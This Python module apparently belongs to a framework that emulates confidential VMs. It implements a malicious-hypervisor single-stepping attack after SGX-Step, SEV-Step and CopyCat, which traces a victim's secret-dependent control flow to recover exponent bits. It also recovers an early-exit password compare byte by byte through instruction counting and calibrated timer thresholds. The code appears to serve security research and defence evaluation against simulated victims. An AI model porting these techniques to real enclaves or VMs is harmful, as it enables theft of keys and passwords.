"""Single-stepping and instruction counting (SGX-Step, SEV-Step, CopyCat) on any victim.

The host arms the timer with a quantum of one instruction and follows the victim's
secret-dependent control flow.

A victim that computes on its secret — the host unmaps the secrets page at its public GPA;
its first read marks the start, the first console write the end.

- Where the exit shows RIP (``plain``, ``sev``) every step is an event: its RIP.
- Without RIP (``sev-es``, ``snp``, ``shim``) the host counts instructions between
  page-level events, taken from the public image as page-fault does
  (tvmm_tools.attacks._profile.Tracer): one code page mapped at a time, so every call and
  return between code pages faults, every access to a data page faults; each event
  carries the instructions retired since the last.

How the trace spells the secret it learns by profiling, never from the victim's name: it
traces its own copies of the public image at ``plain`` holding secrets it chose, in the
same mode (tvmm_tools.attacks._learn).  Where a step retires more than one instruction (the
shim extends short quanta) the counts no longer match the profiles and those bits stay
unknown (``Outcome.known``).

A victim that reads input lines (its own copy, launched at ``plain``, asks for one before
it writes anything) — the host serves the lines and counts the instructions between each
input's completion and the next console write: an early-exit compare runs longer per
matching leading byte.  It first finds the length (the compare returns at once when the
lengths differ), then tries the declared alphabet at each position; the candidate whose
count is longer is right.  The host first calibrates the timer: if a quantum of 1 comes
back with RETIRED > 1 the platform extends short quanta, and the host finds the smallest
quantum it honours (at ``shim``, where a timer exit shows no count, it takes the minimum
progress docs/policies.md documents, 32).  It then counts with threshold tests instead of
single steps — one attempt answers "did the timer at q fire before the console write?",
a binary search gives the exact count — and never arms a short quantum again.

The stepping histogram compares the armed quantum (1) with RETIRED at each timer exit
(tvmm_tools.attacks._decode.Stepping).  The modeled timer is exact — Unicorn stops after the
counted instruction — so there are no zero steps, unlike SGX-Step's ≈2% on hardware.
"""

from __future__ import annotations

import functools
import statistics
from collections.abc import Generator, Iterator
from dataclasses import dataclass

from tvmm.abi.messages import ExitRecord, Reply
from tvmm.abi.types import ExitReason, Field, Level
from tvmm.host.devices import InputDevice
from tvmm.host.hypervisor import HonestHypervisor
from tvmm.samples import PASSWORD_ALPHABET
from tvmm_tools.attacks._decode import Stepping, is_console_write, is_input_read
from tvmm_tools.attacks._learn import decode, learn, to_guess
from tvmm_tools.attacks._profile import (
    Tracer,
    asks_for_input,
    code_pages,
    data_pages,
    declared_secret_bytes,
    profiles,
    trace_victim,
)
from tvmm_tools.attacks.base import Attack, AttackContext, Outcome, not_applicable

MAX_PASSWORD = 32  # the longest password the search tries
MAX_EXITS = 60_000


class SingleStep(Attack):
    name = "single-step"
    summary = ("single-step the victim (timer quantum 1) or count its instructions between "
               "events: the exponent's control flow, the early-exit compare's length")
    victims = ("modexp", "modexp-ct", "password", "branches", "ttable", "scan", "stores",
               "gcry_modexp", "mbedtls_modexp", "spellcheck")
    kind = "confidentiality"
    published = ("SGX-Step: 100,000 of 100,000 nops single-stepped with 0 multi-steps "
                 "(zero-steps ≈2%); an early-exit memcmp password falls byte by byte in "
                 "linear time; CopyCat: 100/100 DSA keys with ~22,000 interrupts per "
                 "signature (docs/attacks.md §4).  Defences: TDX random 1–32-instruction "
                 "stepping; AEX-Notify residual single-step rate 4.2%.")

    def run(self, ctx: AttackContext) -> Outcome:
        if asks_for_input(ctx):
            return _password(ctx)
        return _traced(ctx)


# -- any victim: steps between page events, learned on own copies -----------------------------
def _traced(ctx: AttackContext) -> Outcome:
    nbytes = declared_secret_bytes(ctx.guest)
    if nbytes == 0:
        return not_applicable("the victim declares no secret")
    rip = ctx.level in (Level.PLAIN, Level.SEV)  # the platform's public rules: RIP shown
    make = functools.partial(ctx.host, Tracer, code=code_pages(ctx.image),
                             data=data_pages(ctx.image), step=True, rip=rip)
    mode = "rip" if rip else "count"
    profs, spent = profiles(ctx, f"single-step-{mode}", make, nbytes, MAX_EXITS)
    model = learn(profs, 8 * nbytes)
    if model is None:
        what = "RIP" if rip else "instruction count between page events"
        return not_applicable(f"no {what} depends on the secret on {len(profs)} own profiled "
                              "runs", exits=spent)
    host = trace_victim(ctx, make, MAX_EXITS)
    how = host.run_result.how if host.run_result else "?"
    bits, segs = decode(model, host.events, complete=host.finished)
    guess, known = to_guess(bits, nbytes)
    steps = host.steps
    nsteps = steps.single + steps.multi + steps.uncounted
    notes: dict[str, object] = {
        "mode": mode, "run": how, "events": len(host.events), "known_bits": len(bits),
        "learnable_bits": len(model.covered),
        "profile": "cached" if spent == 0 else f"{len(profs)} own runs, {spent} exits",
        "detail": f"{nsteps} steps, {len(host.events)} "
                  + ("RIPs" if rip else "page events with counts")
                  + f" ({how}); {len(bits)} of {8 * nbytes} bits read from {segs} segments "
                  f"(learnable on own copies: {len(model.covered)})"
                  + (f"; {steps.multi} multi-steps" if steps.multi else "")}
    if host.refused:
        notes.update(blocked=True, refused=host.refused)
    return Outcome(guess=guess if bits else None, known=known if bits else None,
                   hosts=[host], exits=sum(host.exits.values()) + spent,
                   stepping=steps.histogram(), notes=notes)


# -- password ----------------------------------------------------------------------------------
@dataclass(frozen=True)
class Probe:
    """One attempt: the line to type, and either None (count exactly by single steps) or a
    threshold q (arm q after the input completes; the answer is whether the timer fired)."""

    guess: bytes
    threshold: int | None = None


Search = Generator[Probe, "int | bool | None", "bytes | None"]


def _count(guess: bytes, q_min: int | None) -> Generator[Probe, int | bool | None, int | None]:
    """Instructions retired between the input's completion and the console write."""
    if q_min is None:
        return (yield Probe(guess))
    if not (yield Probe(guess, q_min)):
        return None  # shorter than the smallest honoured quantum: invisible
    lo, hi = q_min, 2 * q_min
    while (yield Probe(guess, hi)):
        lo, hi = hi, 2 * hi
    while hi - lo > 1:  # fired(lo), not fired(hi)
        mid = (lo + hi) // 2
        if (yield Probe(guess, mid)):
            lo = mid
        else:
            hi = mid
    return lo


def _search(q_min: int | None, notes: dict) -> Search:
    """Length first, then each byte.  Reference counts are exact (single steps, or a
    binary search of threshold tests when ``q_min`` is set); every comparison with a
    reference is one threshold test at reference + 1: did the candidate run longer?"""

    def longer(guess: bytes, than: int) -> Generator[Probe, int | bool | None, bool | None]:
        if q_min is not None and than + 1 < q_min:
            return None  # would arm a short quantum: the platform would stretch it
        return bool((yield Probe(guess, than + 1)))

    counts: dict[int, int] = {}
    for length in range(1, 5):
        count = yield from _count(b"a" * length, q_min)
        if count is None:
            notes["why"] = "the compare runs shorter than the smallest honoured quantum"
            return None
        counts[length] = count
    # Each extra byte of input costs the same (copying it), except at the right length,
    # where the compare goes on to the bytes: the median step is the cost per byte.
    slope = statistics.median(counts[n + 1] - counts[n] for n in range(1, 4))

    def predicted(n: int) -> int:
        return counts[1] + slope * (n - 1)

    notes["length_counts"] = [counts[n] for n in sorted(counts)]
    pwlen = next((n for n in counts if counts[n] > predicted(n)), None)
    for length in range(5, MAX_PASSWORD + 1):
        if pwlen is not None:
            break
        if (yield from longer(b"a" * length, predicted(length))):
            pwlen = length
    if pwlen is None:
        notes["why"] = "no length makes the compare run longer"
        return None
    notes["length"] = pwlen
    known = b""
    for pos in range(pwlen):
        ref = PASSWORD_ALPHABET[0].encode()
        fill = pwlen - pos
        ref_count = yield from _count(known + ref * fill, q_min)
        if ref_count is None:
            return known or None
        found = ref  # unless a candidate runs longer than the reference
        for ch in PASSWORD_ALPHABET[1:]:
            if (yield from longer(known + ch.encode() * fill, ref_count)):
                found = ch.encode()
                break
        known += found
    return known


DOCUMENTED_MIN_PROGRESS = 32  # docs/policies.md: the shim's default minimum progress


class _CountHost(HonestHypervisor):
    """Calibrates the timer during boot, then measures each attempt of the search."""

    CALIBRATE = (1, 2, 4, 8, 16, 32, 64, 128, 256)

    def __init__(self, *args, **kwargs) -> None:
        super().__init__(*args, **kwargs)
        self.notes: dict[str, object] = {}
        self.steps = Stepping()
        self.q_min: int | None = None  # smallest quantum honoured; None while calibrating
        self.probes: list[int] = list(self.CALIBRATE)
        self.bracket: tuple[int, int] | None = None
        self.search: Search | None = None
        self.probe: Probe | None = None
        self.answer: bytes | None = None
        self.measuring = False
        self.counted = 0
        self.fired = False
        self.attempts = 0
        self.armed = 0
        self.devices.input = InputDevice(self._lines())

    def _lines(self) -> Iterator[bytes]:
        while self.probe is not None:
            self.attempts += 1
            yield self.probe.guess

    # -- the timer ------------------------------------------------------------------------
    def enter(self) -> Reply:
        if self.q_min is None and self.search is None:
            self.quantum = self._calibration_quantum()
        elif self.measuring and self.probe is not None:
            if self.probe.threshold is None:
                self.quantum = 1
            else:
                self.quantum = 0 if self.fired else self.probe.threshold
        else:
            self.quantum = 0
        self.armed = self.quantum
        return super().enter()

    def _calibration_quantum(self) -> int:
        if self.bracket is not None:
            lo, hi = self.bracket  # lo extended, hi honoured
            return (lo + hi) // 2
        return self.probes[0]

    def _calibrated(self, armed: int, retired: int) -> None:
        honoured = retired == armed
        if self.bracket is None:
            self.probes.pop(0)
            if honoured and armed == 1:
                self._start(None)
            elif honoured:
                self.bracket = (armed // 2, armed)
            elif not self.probes:
                self._start(None)  # nothing honoured: count with whatever it gives
                self.notes["calibration"] = "no quantum honoured"
            return
        lo, hi = self.bracket
        self.bracket = (lo, armed) if honoured else (armed, hi)
        lo, hi = self.bracket
        if hi - lo <= 1:
            self._start(hi)

    def _start(self, q_min: int | None) -> None:
        self.q_min = q_min
        self.notes["q_min"] = q_min if q_min is not None else 1
        self.search = _search(q_min, self.notes)
        self.probe = next(self.search)

    # -- exits ----------------------------------------------------------------------------
    def on_exit(self, rec: ExitRecord) -> bool:
        self.steps.note(self.armed, rec)
        if rec.reason == ExitReason.TIMER:
            retired = rec.get(Field.RETIRED)
            if retired is None:  # shim: no count shown; the quantum asked for is all it has
                retired = self.armed
                if self.search is None:  # and the minimum progress docs/policies.md gives
                    self.notes["calibration"] = "no count shown: the documented min_progress"
                    self._start(DOCUMENTED_MIN_PROGRESS)
            if self.search is None:
                self._calibrated(self.armed, retired)
            elif self.measuring:
                self.counted += retired
                self.fired = True
        elif is_console_write(rec) and self.measuring:
            self.measuring = False
            result = self.fired if self.probe.threshold is not None else self.counted
            try:
                self.probe = self.search.send(result)
            except StopIteration as stop:
                self.probe, self.answer = None, stop.value
        if is_input_read(rec) and self.search is None:
            self._start(None)  # no timer exit before the first input: count by steps
        alive = super().on_exit(rec)
        if is_input_read(rec) and self.probe is not None:
            self.measuring, self.counted, self.fired = True, 0, False
        return alive


def _password(ctx: AttackContext) -> Outcome:
    host = ctx.host(_CountHost)
    ctx.launch(host)
    result = host.run(max_exits=400_000)
    exits = sum(result.exits.values())
    guess = host.answer
    if "granted" in host.devices.console.text and host.devices.input.served:
        guess = host.devices.input.served[-1].rstrip(b"\r\n")
    notes = dict(host.notes)
    mode = "single steps" if host.q_min is None else f"threshold tests at q ≥ {host.q_min}"
    notes["attempts"] = host.attempts
    notes["detail"] = (f"{host.attempts} attempts counted by {mode}; run ended: {result.how}"
                       + (f"; {notes['why']}" if "why" in notes else ""))
    return Outcome(guess=guess, hosts=[host], exits=exits, stepping=host.steps.histogram(),
                   notes=notes)
